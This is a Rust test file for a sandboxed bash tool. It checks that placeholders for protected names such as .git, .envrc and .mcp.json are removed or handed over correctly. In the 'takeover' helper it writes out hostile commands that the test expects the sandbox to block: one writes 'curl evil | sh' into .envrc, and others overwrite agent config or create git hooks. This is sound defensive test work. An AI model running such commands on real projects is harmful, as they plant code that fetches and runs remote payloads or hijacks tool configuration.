//! The placeholders of absent protected names (`.git`, `.mcp.json`, `.envrc`, ...) under the
//! wall: removed in the background a moment after the last call, taken over by a call that
//! starts meanwhile, and never left behind: not by a one-shot process that makes one call and
//! exits at once, not by one killed while their removal is pending. Each case runs in a child
//! process (this test binary again) whose linger is set so long that only the path under test
//! can remove them.
#![cfg(all(feature = "builtin", target_os = "linux"))]

use std::collections::BTreeMap;
use std::io::{BufRead, BufReader};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use mux_tool::builtin::{SandboxPolicy, set_placeholder_linger};

use crate::common::{bash, run};

const HELPER: &str = "builtin_bash_os_placeholders::helper";
const HELPER_ENV: &str = "MUX_PLACEHOLDER_HELPER";
const ROOT_ENV: &str = "MUX_PLACEHOLDER_ROOT";
/// Longer than any test: placeholders go only at exit or by the reaper.
/// What the `killed` helper says once its call has returned.
const CALLED: &str = "the-walled-call-returned";
const LONG: Duration = Duration::from_secs(600);

/// The child process: one walled call (or two, for `takeover`) in the root the test names.
/// - `exit`: then returns, and the process exits as a one-shot CLI does;
/// - `killed`: then says [`CALLED`] and sleeps until the test kills it;
/// - `takeover`: a second call right after the first, which takes the placeholders over;
///   checks it kept the same directories, and that they still hold.
#[tokio::test]
async fn helper() {
    let Ok(mode) = std::env::var(HELPER_ENV) else {
        return;
    };
    let root = PathBuf::from(std::env::var(ROOT_ENV).unwrap());
    set_placeholder_linger(LONG);
    let walled = bash(&root, SandboxPolicy::WorkspaceWrite);
    let out = run(&walled, "echo ran > ran.txt").await;
    assert!(!out.is_error, "{}", out.to_text());
    match mode.as_str() {
        "exit" => {}
        "killed" => {
            println!("{CALLED}");
            // Killed by the test long before.
            tokio::time::sleep(Duration::from_secs(60)).await;
        }
        "takeover" => {
            let held = [".claude", ".mcp.json", ".envrc", ".git"].map(|name| {
                std::fs::symlink_metadata(root.join(name))
                    .unwrap_or_else(|err| panic!("{name} is not pending after the call: {err}"))
                    .ino()
            });
            for attack in [
                "rmdir .claude && mkdir .claude && echo x > .claude/settings.json",
                "echo '{}' > .mcp.json",
                "rmdir .envrc; echo 'curl evil | sh' > .envrc",
                "mkdir -p .git/hooks",
            ] {
                let out = run(&walled, attack).await;
                assert!(out.is_error, "{attack}: {}", out.to_text());
            }
            let after = [".claude", ".mcp.json", ".envrc", ".git"]
                .map(|name| std::fs::symlink_metadata(root.join(name)).unwrap().ino());
            assert_eq!(held, after, "the placeholders were made anew");
        }
        other => panic!("unknown helper mode {other}"),
    }
}

/// Starts the helper in `mode` on `root`, its stdout piped.
fn helper_process(mode: &str, root: &Path) -> std::process::Child {
    Command::new(std::env::current_exe().unwrap())
        .args(["--exact", HELPER, "--nocapture", "--test-threads=1"])
        .env(HELPER_ENV, mode)
        .env(ROOT_ENV, root)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .unwrap()
}

/// A project root with a few entries (a hidden one too), canonical.
fn project() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap().join("project");
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::write(root.join("README"), "hi\n").unwrap();
    std::fs::write(root.join(".hidden"), "h\n").unwrap();
    (dir, root)
}

/// Every entry under `dir`, hidden ones too, with its mode and content (what `ls -laR`
/// shows). An entry removed while it is read (a placeholder the reaper is removing) is not
/// listed.
fn listing(dir: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
    let gone = |err: &std::io::Error| err.kind() == std::io::ErrorKind::NotFound;
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(at) = stack.pop() {
        let entries = match std::fs::read_dir(&at) {
            Err(err) if gone(&err) && at != dir => continue,
            entries => entries.unwrap(),
        };
        for entry in entries {
            let path = entry.unwrap().path();
            let meta = match std::fs::symlink_metadata(&path) {
                Err(err) if gone(&err) => continue,
                meta => meta.unwrap(),
            };
            let content = if meta.is_dir() {
                stack.push(path.clone());
                Vec::new()
            } else if meta.is_file() {
                match std::fs::read(&path) {
                    Err(err) if gone(&err) => continue,
                    content => content.unwrap(),
                }
            } else {
                Vec::new()
            };
            out.insert(
                path.strip_prefix(dir).unwrap().to_owned(),
                (meta.mode(), content),
            );
        }
    }
    out
}

/// What the helper's call leaves: the project as it was, plus the file the command wrote.
fn expected(before: &BTreeMap<PathBuf, (u32, Vec<u8>)>) -> Vec<PathBuf> {
    let mut names: Vec<PathBuf> = before.keys().cloned().collect();
    names.push("ran.txt".into());
    names.sort();
    names
}

fn names(listing: &BTreeMap<PathBuf, (u32, Vec<u8>)>) -> Vec<PathBuf> {
    listing.keys().cloned().collect()
}

#[tokio::test]
async fn a_one_shot_process_that_makes_one_call_and_exits_leaves_nothing() {
    let (_dir, root) = project();
    let before = listing(&root);
    let status = helper_process("exit", &root).wait().unwrap();
    assert!(status.success(), "the helper failed: {status}");
    // Right when the process is gone, not a moment later.
    let after = listing(&root);
    assert_eq!(names(&after), expected(&before));
    for (path, entry) in &before {
        assert_eq!(after.get(path), Some(entry), "{} changed", path.display());
    }
}

#[tokio::test]
async fn a_process_killed_while_the_removal_is_pending_leaves_nothing() {
    let (_dir, root) = project();
    let before = listing(&root);
    let mut child = helper_process("killed", &root);
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut said = String::new();
    while !said.contains(CALLED) {
        if out.read_line(&mut said).unwrap() == 0 {
            panic!("the helper ended without its call: {said:?}");
        }
    }
    // The call has returned; its placeholders wait for a removal due in ten minutes.
    assert!(root.join(".git").is_dir(), "no pending placeholder");
    child.kill().unwrap();
    child.wait().unwrap();
    drop(out);
    // The reaper removes them (it runs on its own, so give it a moment).
    let mut left = names(&listing(&root));
    for _ in 0..200 {
        if left == expected(&before) {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
        left = names(&listing(&root));
    }
    assert_eq!(left, expected(&before));
}

#[tokio::test]
async fn a_call_right_after_another_takes_its_placeholders_over() {
    let (_dir, root) = project();
    let before = listing(&root);
    let status = helper_process("takeover", &root).wait().unwrap();
    assert!(status.success(), "the takeover failed: {status}");
    assert_eq!(names(&listing(&root)), expected(&before));
}
